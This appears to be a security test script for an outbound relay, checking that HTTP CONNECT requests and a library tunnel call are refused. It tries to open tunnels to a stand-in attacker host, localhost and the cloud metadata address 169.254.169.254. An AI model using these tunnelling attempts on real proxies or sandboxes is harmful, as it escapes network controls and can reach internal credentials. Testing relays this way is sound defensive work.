# attack: CONNECT asks the relay for a tunnel to any host, where its own TLS and rules would no longer apply
# expect: broker
# validator: refused
import http.client
import socket
import ssl

TARGETS = ("attacker.example:443", "127.0.0.1:@TCP_PORT@", "169.254.169.254:80", "api.stripe.com:443", "/v1/customers", "*")


def speak(port, lines):
    plain = socket.create_connection(("api.stripe.com", port), 1)
    stream = plain if port == 80 else ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com")
    stream.settimeout(0.7)
    stream.sendall(lines)
    first = stream.recv(65536)
    if b" 200" in first[:16]:
        # Is it really a tunnel? Then what follows is spoken with the other end.
        stream.sendall(b"GET / HTTP/1.0\r\n\r\n")
        print("ESCAPED: the relay opened a tunnel", first[:40], stream.recv(64), flush=True)
    return first


for target in TARGETS:
    for port in (443, 80):
        for method in ("CONNECT", "connect"):
            try:
                text = f"{method} {target} HTTP/1.1\r\nHost: {target if ':' in target else 'api.stripe.com'}\r\n\r\n"
                print(method, target, port, speak(port, text.encode())[:15])
                text = f"{method} {target} HTTP/1.1\r\nHost: api.stripe.com\r\n\r\n"
                print(method, target, port, speak(port, text.encode())[:15])
            except OSError as error:
                print(method, target, port, error)

# As a library does it.
try:
    connection = http.client.HTTPSConnection("api.stripe.com", timeout=0.7)
    connection.set_tunnel("attacker.example", 443)
    connection.request("GET", "/")
    print("ESCAPED: http.client has a tunnel", connection.getresponse().status, flush=True)
except Exception as error:
    print(type(error).__name__, error)
